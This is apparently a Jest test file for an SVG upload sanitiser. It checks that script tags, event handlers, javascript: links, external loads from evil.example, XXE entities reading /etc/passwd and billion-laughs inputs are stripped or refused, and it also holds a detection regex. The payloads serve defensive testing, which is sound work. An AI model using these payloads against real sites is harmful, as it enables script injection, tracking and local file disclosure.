import { describe, expect, it } from '@jest/globals';
import { SaxesParser } from 'saxes';
import { inspectFile } from '../../test/inspect-file.js';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inside: string, attributes = '') => `<svg ${NS}${attributes}>${inside}</svg>`;
const SHAPE = '<path d="M0 0h9v9z"/>';

/** Each of them runs script, loads something or tells something to somebody in a browser that shows it unsanitised. */
const PAYLOADS: readonly [string, string][] = [
  ['a script', svg('<script>alert(1)</script>')],
  ['a script in CDATA', svg('<script><![CDATA[alert(1)]]></script>')],
  ['a script from elsewhere', svg('<script href="https://evil.example/x.js"/>')],
  ['a script by xlink', svg('<script xlink:href="https://evil.example/x.js"/>')],
  ['a script by data', svg('<script href="data:text/javascript,alert(1)"/>')],
  ['a script with a prefix', '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>'],
  ['a script of HTML', svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>')],
  ['onload', svg('', ' onload="alert(1)"')],
  ['onload in capitals', svg('', ' ONLOAD="alert(1)"')],
  ['onclick', svg('<path d="M0 0" onclick="alert(1)"/>')],
  ['onmouseover', svg('<g onmouseover="alert(1)"><path d="M0 0"/></g>')],
  ['onfocus with autofocus', svg('<path d="M0 0" tabindex="1" autofocus="" onfocus="alert(1)"/>')],
  ['onbegin', svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['onerror', svg('<image href="x" onerror="alert(1)"/>')],
  [
    'an event of XML Events',
    svg('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>'),
  ],
  ['a handler', svg('<handler type="application/ecmascript" event="load">alert(1)</handler>')],
  [
    'foreignObject',
    svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>'),
  ],
  [
    'foreignObject with a frame',
    svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'),
  ],
  ['a frame', svg('<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>alert(1)&lt;/script>"/>')],
  ['an object', svg('<object xmlns="http://www.w3.org/1999/xhtml" data="https://evil.example"/>')],
  ['an embed', svg('<embed xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>')],
  ['a video', svg('<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/v"/>')],
  ['an image of HTML', svg('<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>')],
  ['a link that runs', svg('<a href="javascript:alert(1)"><path d="M0 0"/></a>')],
  ['a link that runs, by xlink', svg('<a xlink:href="javascript:alert(1)"><text>click</text></a>')],
  ['a link that runs, in disguise', svg('<a href="&#106;ava&#115;cript:alert(1)"><text>click</text></a>')],
  ['a link that runs, with a tab', svg('<a href="java&#9;script:alert(1)"><text>click</text></a>')],
  ['a link to data', svg('<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text>click</text></a>')],
  ['a use from elsewhere', svg('<use href="https://evil.example/x.svg#a"/>')],
  ['a use by xlink', svg('<use xlink:href="https://evil.example/x.svg#a"/>')],
  ['a use of data', svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>')],
  ['an image from elsewhere', svg('<image href="https://evil.example/track.png" width="1" height="1"/>')],
  ['an image without a scheme', svg('<image href="//evil.example/track.png"/>')],
  ['an image that is SVG', svg('<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/>')],
  ['an image that is HTML', svg('<image href="data:text/html;base64,PHNjcmlwdD4="/>')],
  ['a filter from elsewhere', svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>')],
  ['a set of href', svg('<a id="a"><set attributeName="href" to="javascript:alert(1)"/><text>click</text></a>')],
  ['an animated href', svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>click</text></a>')],
  [
    'an animated href by xlink',
    svg('<a><animate attributeName="xlink:href" from="javascript:alert(1)"/><text>x</text></a>'),
  ],
  ['a style that imports', svg('<style>@import url("https://evil.example/x.css");</style>')],
  ['a style that imports, unquoted', svg('<style>@import "//evil.example/x.css";</style>')],
  ['a style that loads a font', svg('<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>')],
  ['a style that loads a background', svg('<style>*{background:url(https://evil.example/t)}</style>')],
  ['a style in escapes', svg('<style>*{background:\\75\\72\\6c(https://evil.example/t)}</style>')],
  ['a style with an image set', svg('<style>*{background:image-set("https://evil.example/t" 1x)}</style>')],
  ['a style that breaks out', svg('<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>')],
  ['a style in CDATA that breaks out', svg('<style><![CDATA[</style><script>alert(1)</script>]]></style>')],
  ['a style with an element in it', svg('<style><script>alert(1)</script></style>')],
  ['a style with a binding', svg('<style>*{-moz-binding:url(https://evil.example/x.xml#x)}</style>')],
  ['a style with an expression', svg('<style>*{width:expression(alert(1))}</style>')],
  ['a style attribute that loads', svg('<path d="M0 0" style="fill:url(https://evil.example/x.svg#p)"/>')],
  ['a style attribute with a behaviour', svg('<path d="M0 0" style="behavior:url(#default#time2)"/>')],
  ['a fill from elsewhere', svg('<path d="M0 0" fill="url(https://evil.example/x.svg#p)"/>')],
  ['a mask from elsewhere', svg('<path d="M0 0" mask="url(//evil.example/x.svg#m)"/>')],
  ['a cursor from elsewhere', svg('<path d="M0 0" cursor="url(https://evil.example/c.png), auto"/>')],
  ['a marker in data', svg('<path d="M0 0" marker-end="url(data:image/svg+xml,x#m)"/>')],
  ['a base', svg('<path d="M0 0" xml:base="https://evil.example/"/><use href="#x"/>')],
  ['a style sheet of XML', `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${svg(SHAPE)}`],
  ['a document type from elsewhere', `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg(SHAPE)}`],
  ['metadata of who drew it', svg('<metadata><who xmlns="urn:x">Secret Person</who></metadata>')],
  ['a comment that browsers end elsewhere', svg('<!--><script>alert(1)</script>-->')],
  ['a title that HTML would end', svg('<title>&lt;/title>&lt;script>alert(1)&lt;/script></title>')],
  ['a desc with HTML', svg('<desc><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></desc>')],
  ['a discard', svg('<discard begin="0s" href="#x"/>')],
  ['a ping', svg('<a href="#x" ping="https://evil.example/p"><text>x</text></a>')],
];

const REFUSED: readonly [string, string, string][] = [
  ['an external entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`, 'upload_malformed'],
  ['a billion laughs', `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>${svg('&b;')}`, 'upload_malformed'],
  [
    'a parameter entity',
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example">%x;]>${svg('')}`,
    'upload_malformed',
  ],
  ['an entity of HTML', svg('&nbsp;'), 'upload_malformed'],
  ['tags that do not nest', `<svg ${NS}><g></svg></g>`, 'upload_malformed'],
  ['two roots', `${svg('')}${svg('')}`, 'upload_malformed'],
  ['an attribute given twice', svg('<path d="M0 0" d="M1 1"/>'), 'upload_malformed'],
  ['a prefix that is not declared', '<svg xmlns="http://www.w3.org/2000/svg"><y:g/></svg>', 'upload_malformed'],
  ['another encoding', `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-')}`, 'upload_type_mismatch'],
  ['no namespace', '<svg><path d="M0 0"/></svg>', 'upload_type_mismatch'],
  ['a use that uses itself', svg('<g id="a"><use href="#a"/></g>'), 'upload_malformed'],
];

const DANGER =
  /script|alert|evil|javascript|\bon\w+\s*=|foreignObject|iframe|srcdoc|import|Secret|entity|doctype|<\?|<!--/i;

/** Everything that a browser could act on; text is what people read. */
function markupOf(clean: string): string {
  return clean.replace(/>[^<]*</g, '><');
}

describe('SVG', () => {
  it.each(PAYLOADS)('is rid of %s', async (_what, document) => {
    const { outcome, bytes } = await inspectFile('image/svg+xml', document);
    expect(outcome).toBe('kept');
    const clean = bytes.toString();
    expect(markupOf(clean)).not.toMatch(DANGER);
    expect(clean).not.toMatch(/<style>[^<]*(script|evil|alert)/i);
    expect(clean).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    // It is well-formed, and sanitising it again changes nothing.
    new SaxesParser({ xmlns: true }).write(clean).close();
    expect((await inspectFile('image/svg+xml', clean)).bytes.toString()).toBe(clean);
  });

  it.each(REFUSED)('is refused with %s', async (_what, document, code) => {
    expect((await inspectFile('image/svg+xml', document)).outcome).toBe(code);
  });

  it('keeps what draws', async () => {
    const drawing = svg(
      '<title>Logo &amp; name</title><defs><linearGradient id="g" x1="0"><stop offset="0" stop-color="#fff"/></linearGradient>' +
        '<clipPath id="c"><circle r="5"/></clipPath><filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs>' +
        '<style>.a{fill:url(#g);stroke:#000}</style><g class="a" transform="rotate(45)" style="opacity:.5;filter:url(#f)">' +
        '<path d="M0 0L9 9Z" fill="url(#g)" clip-path="url(\'#c\')"/></g><use xlink:href="#g"/>' +
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1"/><text x="1">Hi <tspan>there</tspan></text>',
      ' viewBox="0 0 9 9" width="9"',
    );
    const { bytes } = await inspectFile('image/svg+xml', drawing);
    expect(bytes.toString()).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9"><title>Logo &amp; name</title>' +
        '<defs><linearGradient id="g" x1="0"><stop offset="0" stop-color="#fff"></stop></linearGradient>' +
        '<clipPath id="c"><circle r="5"></circle></clipPath><filter id="f"><feGaussianBlur stdDeviation="2"></feGaussianBlur></filter></defs>' +
        '<style>.a{fill:url(#g);stroke:#000}</style><g class="a" transform="rotate(45)" style="opacity:.5;filter:url(#f)">' +
        '<path d="M0 0L9 9Z" fill="url(#g)" clip-path="url(\'#c\')"></path></g><use href="#g"></use>' +
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1"></image><text x="1">Hi <tspan>there</tspan></text></svg>',
    );
  });

  it('keeps the texts and shapes of links, without where they lead', async () => {
    const { bytes } = await inspectFile(
      'image/svg+xml',
      svg(`<a href="https://example.org">${SHAPE}<text>go</text></a>`),
    );
    expect(bytes.toString()).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9z"></path><text>go</text></svg>',
    );
  });
});
